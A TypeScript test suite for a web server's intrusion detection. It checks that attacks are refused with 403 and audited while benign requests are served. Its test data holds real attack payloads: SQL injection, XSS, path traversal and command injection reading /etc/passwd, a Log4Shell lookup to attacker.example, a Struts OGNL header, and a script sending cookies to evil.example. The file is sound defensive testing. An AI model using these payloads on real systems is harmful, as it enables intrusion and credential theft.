/**
 * The IDS in a real server ([security.ids], issue 5 item 4): attacks in
 * the path, query, headers and body are refused with 403 before they reach
 * an upstream, benign requests are served, custom rules log or block, and
 * a client's score raises an alert and then a ban held by every worker.
 * The detection itself is tested case by case in ids.test.ts.
 *
 * Issue 14: an attack in any header (not only a selected few) is refused
 * and audited with the header named, custom rules look at bodies, and
 * headers whose ordinary values look odd (Accept, If-None-Match, a Basic
 * password, a multipart boundary) and non-English text are served.
 */
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { listenLocal, proxyVhost, rawRequest, request, TestServer, waitFor } from '../support/harness.js';

describe('intrusion detection', () => {
  const server = new TestServer();
  const seen: { url: string; body: string }[] = [];
  const upstream = http.createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8');
    req.on('data', (chunk: string) => (body += chunk));
    req.on('end', () => {
      seen.push({ url: req.url ?? '', body });
      res.end(`upstream read ${body.length}\n`);
    });
  });

  before(async () => {
    writeFileSync(path.join(server.dir, 'index.html'), 'ok\n');
    const upstreamPort = await listenLocal(upstream);
    await server.start(`[security.ids]
enabled = true
alert_threshold = 5
block_threshold = 20

[[security.ids.rules]]
name = "no-wp"
pattern = "/wp-(admin|login)"
severity = "low"
action = "block"

[[security.ids.rules]]
name = "old-client"
pattern = "^curl/7\\\\.1"
severity = "low"
action = "log"

[[security.ids.rules]]
name = "no-internal-field"
pattern = "internal_(?:token|role)\\\\s*="
severity = "medium"
action = "block"

[[security.ids.rules]]
name = "no-blink"
pattern = "<blink>"
severity = "low"
action = "block"

[security.ddos]
whitelist = ["127.0.0.1"]
ban_seconds = 60
# The attackers here are 127.0.0.x, loopback, which is never banned by default.
ignore_ip = []

[[vhosts]]
domains = ["site.test"]
root = "${server.dir}"

${proxyVhost('app.test', upstreamPort)}`);
  });
  after(async () => {
    await server.stop();
    upstream.close();
  });

  const get = (urlPath: string, headers: Record<string, string> = {}, from = '127.0.0.1') =>
    request(server.port, { path: urlPath, headers: { Host: 'app.test', ...headers }, localAddress: from });

  const attacks: [string, string, Record<string, string>][] = [
    ['SQL injection in the query', "/items?id=1'%20OR%20'1'%3D'1", {}],
    ['UNION SELECT in the query', '/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--', {}],
    ['XSS in the query', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E', {}],
    ['an event handler in the query', '/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', {}],
    ['path traversal, encoded', '/download?file=..%2F..%2F..%2Fetc%2Fpasswd', {}],
    ['command injection in the query', '/ping?host=127.0.0.1%3Bcat%20/etc/passwd', {}],
    ['SQL injection in the User-Agent', '/', { 'User-Agent': "' OR 1=1--" }],
    ['a custom block rule', '/wp-login.php', {}],
    ['a Log4Shell lookup in any header', '/', { 'X-Api-Version': '${jndi:ldap://attacker.example/a}' }],
    [
      'an OGNL expression in Content-Type (Struts, CVE-2017-5638)',
      '/upload',
      { 'Content-Type': "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}" },
    ],
  ];
  for (const [what, urlPath, headers] of attacks) {
    it(`refuses ${what} with 403 before the upstream sees it`, async () => {
      const before = seen.length;
      const response = await get(urlPath, headers);
      assert.equal(response.status, 403);
      assert.equal(response.headers.connection, 'close');
      assert.equal(seen.length, before, 'the upstream was not asked');
    });
  }

  // Issue 14: every header, whatever its name.
  const headerAttacks: [string, string][] = [
    ['X-Foo', "' OR 1=1--"],
    ['X-Tenant', '1 UNION SELECT username, password FROM users'],
    ['Accept-Language', '"><script>alert(1)</script>'],
    ['X-File', '../../../../etc/passwd'],
    ['X-Host', '127.0.0.1; cat /etc/passwd'],
    ['Authorization', `Basic ${Buffer.from("admin'--:whatever").toString('base64')}`],
    ['If-None-Match', `"x' OR '1'='1"`],
  ];
  for (const [name, value] of headerAttacks) {
    it(`refuses an attack in ${name} with 403 and audits it with the header named (issue 14)`, async () => {
      const from = `127.0.0.${70 + headerAttacks.findIndex(([n]) => n === name)}`;
      const before = seen.length;
      const response = await get('/', { [name]: value }, from);
      assert.equal(response.status, 403);
      assert.equal(seen.length, before, 'the upstream was not asked');
      const match = await waitFor('ids.match', () =>
        server.logLines().find((line) => line.audit === 'ids.match' && line.clientIp === from),
      );
      assert.match(String(match.detail), new RegExp(`location=header:${name.toLowerCase()}( |$)`));
      if (name === 'Authorization') assert.doesNotMatch(JSON.stringify(match), /admin|whatever|YWRtaW4/, 'credentials are never logged');
    });
  }

  it('matches custom rules against a body, in every decoding, before the upstream reads it (issue 14)', async () => {
    const before = seen.length;
    const form = await request(server.port, {
      method: 'POST',
      path: '/profile',
      headers: { Host: 'app.test', 'Content-Type': 'application/x-www-form-urlencoded' },
      body: 'name=alice&internal_role%20%3D=admin',
      localAddress: '127.0.0.80',
    });
    assert.equal(form.status, 403);
    const match = await waitFor('ids.match', () =>
      server.logLines().find((line) => line.audit === 'ids.match' && line.clientIp === '127.0.0.80'),
    );
    assert.match(String(match.detail), /rule=no-internal-field .*location=body .*action=block/);
    const json = await request(server.port, {
      method: 'POST',
      path: '/api',
      headers: { Host: 'app.test', 'Content-Type': 'application/json' },
      body: '{"bio":"\\u003cblink>hello"}',
    });
    assert.equal(json.status, 403, 'the JSON escape is undone before the rule is matched');
    const text = await request(server.port, {
      method: 'POST',
      path: '/notes',
      headers: { Host: 'app.test', 'Content-Type': 'text/plain' },
      body: `${'notes '.repeat(2000)}internal_token = abc`,
    });
    assert.equal(text.status, 403, 'past the first few KiB, inside the 64 KiB window');
    assert.equal(seen.length, before, 'no body reached the upstream');
  });

  it('audits the match and the refusal, with the rule and where it matched', async () => {
    await get('/items?id=1%20UNION%20SELECT%20null,null--', {}, '127.0.0.60');
    const match = await waitFor('ids.match', () =>
      server.logLines().find((line) => line.audit === 'ids.match' && line.clientIp === '127.0.0.60'),
    );
    assert.match(String(match.detail), /rule=sqli .*location=query .*action=block/);
    await waitFor('the refusal', () =>
      server.logLines().find((line) => line.audit === 'request.ids_blocked' && line.clientIp === '127.0.0.60'),
    );
  });

  const benign: [string, Record<string, string>][] = [
    ['/authors?name=O%27Reilly', {}],
    ['/search?q=select%20the%20best%20union%20jobs', {}],
    ['/docs/README.md', {}],
    ['/blog/2024/01/a-post.md?ref=home', {}],
    ['/search?q=rock%20%26%20roll%20and%20Tom%20%26%20Jerry', {}],
    ['/cart?next=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc', {}],
    ['/', { 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36' }],
    ['/', { Referer: 'https://www.google.com/search?q=miwidothttp+select+union', Cookie: 'session=abc123; theme=dark' }],
    // Issue 14: headers whose ordinary values look odd, now that every header is inspected.
    [
      '/',
      {
        Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
        'Accept-Language': 'de-CH,de;q=0.9,fr;q=0.8,en;q=0.7,*;q=0.5',
        'Accept-Encoding': 'gzip, deflate, br, zstd',
        'If-None-Match': 'W/"5e-1a2b3c", "xyzzy"',
        'Cache-Control': 'max-age=0, no-cache',
        'Sec-Ch-Ua': '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
        Origin: 'https://shop.example',
      },
    ],
    ['/', { Authorization: `Basic ${Buffer.from("alice:k7'#Lp2 OR x=x--").toString('base64')}` }],
    ['/', { Authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.c2lnbmF0dXJlLXNpZ25hdHVyZQ' }],
    ['/', { 'X-Request-Id': '550e8400-e29b-41d4-a716-446655440000', 'X-Forwarded-Proto': 'https' }],
    ['/search?q=%D0%9F%D1%80%D0%B8%D0%B2%D0%B5%D1%82%2C+%D0%BC%D0%B8%D1%80%21+%E4%BD%A0%E5%A5%BD+%D9%85%D8%B1%D8%AD%D8%A8%D8%A7', {}],
    ['/search?q=x+union+station+and+1+or+2', {}],
  ];
  for (const [urlPath, headers] of benign) {
    it(`serves ${urlPath}${Object.keys(headers).length > 0 ? ` with ${Object.keys(headers).join(', ')}` : ''}`, async () => {
      const response = await get(urlPath, headers);
      assert.equal(response.status, 200, response.body);
    });
  }

  it('judges a body before the upstream reads a byte of it', async () => {
    const before = seen.length;
    const form = 'user=admin&comment=%3Cscript%3Edocument.location%3D%27https%3A%2F%2Fevil.example%2F%27%2Bdocument.cookie%3C%2Fscript%3E';
    const refused = await request(server.port, {
      method: 'POST',
      path: '/comments',
      headers: { Host: 'app.test', 'Content-Type': 'application/x-www-form-urlencoded' },
      body: form,
    });
    assert.equal(refused.status, 403);
    const json = await request(server.port, {
      method: 'POST',
      path: '/api',
      headers: { Host: 'app.test', 'Content-Type': 'application/json' },
      body: JSON.stringify({ query: "x' UNION SELECT password FROM users --" }),
    });
    assert.equal(json.status, 403);
    assert.equal(seen.length, before, 'neither body reached the upstream');
    const fine = await request(server.port, {
      method: 'POST',
      path: '/api',
      headers: { Host: 'app.test', 'Content-Type': 'application/json' },
      body: JSON.stringify({ name: "Miles O'Brien", note: 'please select the union option' }),
    });
    assert.equal(fine.status, 200);
    assert.equal(
      seen.at(-1)?.body,
      JSON.stringify({ name: "Miles O'Brien", note: 'please select the union option' }),
      'the held body arrives whole',
    );
  });

  it('serves a multipart upload whose boundary is dashes, and a form of code and non-English text (issue 14)', async () => {
    const boundary = '------------------------d74496d66958873e';
    const multipart = await request(server.port, {
      method: 'POST',
      path: '/upload',
      headers: { Host: 'app.test', 'Content-Type': `multipart/form-data; boundary=${boundary}` },
      body: `--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\nÉté à Zürich — 東京 — Москва\r\n--${boundary}--\r\n`,
    });
    assert.equal(multipart.status, 200, multipart.body);
    const snippet = 'for (let i = 0; i < items.length; i++) {\n  if (items[i].price > 100 && items[i].stock) total += items[i].price;\n}';
    const form = await request(server.port, {
      method: 'POST',
      path: '/forum/reply',
      headers: { Host: 'app.test', 'Content-Type': 'application/x-www-form-urlencoded' },
      body: `subject=${encodeURIComponent('Why is my loop slow?')}&body=${encodeURIComponent(snippet)}`,
    });
    assert.equal(form.status, 200, form.body);
  });

  it('a large benign body streams through whole after its first bytes are judged', async () => {
    const body = 'lorem ipsum dolor sit amet '.repeat(10_000);
    const response = await request(server.port, {
      method: 'POST',
      path: '/upload',
      headers: { Host: 'app.test', 'Content-Type': 'text/plain' },
      body,
    });
    assert.equal(response.status, 200);
    assert.equal(response.body, `upstream read ${body.length}\n`);
  });

  it('a log rule serves the request and audits the match', async () => {
    const response = await get('/', { 'User-Agent': 'curl/7.15.5' }, '127.0.0.61');
    assert.equal(response.status, 200);
    const match = await waitFor('the log match', () =>
      server.logLines().find((line) => line.audit === 'ids.match' && line.clientIp === '127.0.0.61'),
    );
    assert.match(String(match.detail), /rule=old-client .*action=log/);
  });

  it("a client's score raises an alert, then a ban at every worker", async () => {
    const client = '127.0.0.62';
    let refusedAtAccept = false;
    for (let i = 0; i < 20 && !refusedAtAccept; i++) {
      const answer = await new Promise<string>((resolve) => {
        const socket = net.connect({ port: server.port, host: '127.0.0.1', localAddress: client });
        let text = '';
        socket.on('connect', () =>
          socket.write(`GET /?q=%3Cscript%3Ealert(${i})%3C/script%3E HTTP/1.1\r\nHost: app.test\r\nConnection: close\r\n\r\n`),
        );
        socket.on('data', (chunk: Buffer) => (text += chunk.toString('latin1')));
        socket.on('error', () => undefined);
        socket.on('close', () => resolve(text));
      });
      refusedAtAccept = answer === '';
      if (!refusedAtAccept) assert.match(answer, /^HTTP\/1\.1 403 /);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    assert.ok(refusedAtAccept, 'banned: refused at accept');
    await waitFor('the alert', () => server.logLines().find((line) => line.audit === 'ids.alert' && line.clientIp === client));
    const ban = await waitFor('the ban', () => server.logLines().find((line) => line.audit === 'ban.added' && line.clientIp === client));
    assert.equal(ban.source, 'ids');
  });

  it('a whitelisted client is never banned, however it scores', async () => {
    for (let i = 0; i < 10; i++) assert.equal((await get('/?q=%3Cscript%3Ealert(1)%3C/script%3E')).status, 403);
    assert.equal((await get('/')).status, 200);
  });

  it('protects a static vhost as well as a proxied one', async () => {
    const answer = await rawRequest(
      server.port,
      'GET /?id=1%27%20or%20%271%27=%271 HTTP/1.1\r\nHost: site.test\r\nConnection: close\r\n\r\n',
    );
    assert.match(answer, /^HTTP\/1\.1 403 /);
  });
});
